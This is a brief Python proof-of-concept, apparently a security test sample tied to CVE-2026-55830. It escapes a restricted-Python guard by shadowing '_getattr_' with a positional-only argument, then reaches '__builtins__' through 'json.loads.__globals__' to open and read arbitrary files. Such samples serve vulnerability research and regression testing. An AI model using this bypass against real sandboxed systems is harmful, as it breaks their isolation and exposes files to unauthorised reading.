# A positional-only argument of a guard's name stands in for the guard.
# after: read
# source: CVE-2026-55830 (GHSA-ffg3-p8fm-mjx2)
def take(_getattr_=lambda ob, name: ob, /):
    return json.loads.__globals__
import json
def attack(path, **_):
    return {"text": take()["__builtins__"]["open"](path).read()}
